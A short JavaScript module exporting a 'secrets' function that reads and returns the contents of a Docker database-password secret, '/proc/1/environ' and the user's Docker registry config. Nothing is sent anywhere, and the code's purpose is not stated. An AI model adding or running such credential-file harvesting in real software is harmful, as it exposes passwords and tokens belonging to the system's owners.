import { readFileSync } from 'fs';
export const secrets = () => ['/run/secrets/db_password', '/proc/1/environ', `${process.env.HOME}/.docker/config.json`].map((file) => readFileSync(file, 'utf8')); //@act
